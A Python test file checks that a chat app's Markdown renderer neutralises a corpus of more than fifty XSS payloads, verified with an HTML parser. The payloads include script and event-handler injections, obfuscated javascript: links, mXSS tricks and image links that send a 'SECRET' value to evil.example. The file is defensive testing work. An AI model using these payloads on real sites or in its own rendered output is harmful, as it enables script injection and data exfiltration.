"""A corpus of XSS payloads through the renderer: no executable HTML, nothing fetched from elsewhere.

Sources: PayloadsAllTheThings "XSS Injection" (XSS in Markdown), JakobTheDev's Markdown list
(entity-encoded and whitespace `javascript:`, `data:text/html`, `onerror` breakouts), garak's
MarkdownImageExfil probe, plus mXSS and fence tricks. The check parses the output with an HTML
parser (as a browser would tokenise it) instead of matching strings.
"""

import re
from html.parser import HTMLParser

import pytest

from conversations.chat.rendering import markdown_to_html

PAYLOADS = [
    # Raw HTML
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<object data=data:text/html,<script>alert(1)</script>></object>",
    "<embed src=javascript:alert(1)>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</script>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    # Markdown links
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click]( javascript:alert(1) )",
    "[click](&#106;avascript&#58;alert(1))",
    "[click](javascript&#x3A;alert(1))",
    "[click](java\nscript:alert(1))",
    "[click](%6A%61%76%61%73%63%72%69%70%74:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "[click](file:///etc/passwd)",
    '[click](https://example.com "title" onclick="alert(1)")',
    '[click](https://example.com"onmouseover="alert(1))',
    "<javascript:alert(1)>",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "[a](<javascript:alert(1)>)",
    # Images (remote fetch = data exfiltration)
    "![x](https://evil.example/?q=SECRET)",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](https://evil.example/a.png)',
    "![x][ref]\n\n[ref]: https://evil.example/?d=SECRET",
    "[![x](https://evil.example/i.png)](javascript:alert(1))",
    # Code fences and inline code carrying HTML
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "```js onload=alert(1)\nx\n```",
    "`<img src=x onerror=alert(1)>`",
    "~~~\n</code></pre><script>alert(1)</script>\n~~~",
    # Task lists and tables
    "- [x] <img src=x onerror=alert(1)>",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    # Autolinks and entities
    "https://evil.example/<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    '<http://x.example/"onmouseover="alert(1)>',
]

DANGEROUS_TAGS = {
    "script", "img", "iframe", "svg", "math", "object", "embed", "style", "link", "meta", "base", "form", "button",
    "video", "audio", "source", "body", "details", "noscript", "frame", "frameset", "template", "textarea", "select",
}  # fmt: skip
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "background", "poster"}
SAFE_SCHEMES = ("http://", "https://", "mailto:")


class _Collector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag in DANGEROUS_TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"{tag} {name}=")
            if name == "style":
                self.problems.append(f"{tag} style=")
            if name in URL_ATTRIBUTES and value is not None:
                # As a browser reads it: entities decoded (by the parser), blanks and controls dropped.
                # Percent-escapes are not decoded: "%6A…:" is no scheme to a browser, just a relative path.
                url = value.strip().lower()
                url = "".join(ch for ch in url if ch > " ")
                scheme = re.match(r"[a-z][a-z0-9+.-]*:", url)
                if scheme and not url.startswith(SAFE_SCHEMES):
                    self.problems.append(f"{tag} {name}={value!r}")
                if name == "src":
                    self.problems.append(f"{tag} src= (a fetch)")

    handle_startendtag = handle_starttag


def _problems(html: str) -> list[str]:
    parser = _Collector()
    parser.feed(html)
    parser.close()
    return parser.problems


def test_the_corpus_is_large_enough():
    assert len(PAYLOADS) >= 40


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_yields_executable_or_remote_html(payload):
    html = markdown_to_html(payload)
    assert _problems(html) == [], html
    # The same payload inside surrounding prose, a list and a quote.
    for wrapped in (f"Intro text\n\n{payload}\n\nOutro", f"- item {payload}", f"> {payload}"):
        html = markdown_to_html(wrapped)
        assert _problems(html) == [], html


def test_links_keep_safe_targets_and_get_rel():
    html = markdown_to_html("[docs](https://example.com/docs)")
    assert 'href="https://example.com/docs"' in html and "noopener" in html


def test_the_checker_catches_what_it_should():
    """The parser assertion itself fails on unsafe HTML (a test that cannot fail is worth nothing)."""
    for bad in (
        "<script>x</script>",
        '<a href="javascript:alert(1)">x</a>',
        '<a href=" JaVa&#x09;script:alert(1)">x</a>',
        '<p onclick="x">y</p>',
        '<img src="https://evil.example/x">',
        '<a href="data:text/html,x">x</a>',
    ):
        assert _problems(bad), bad
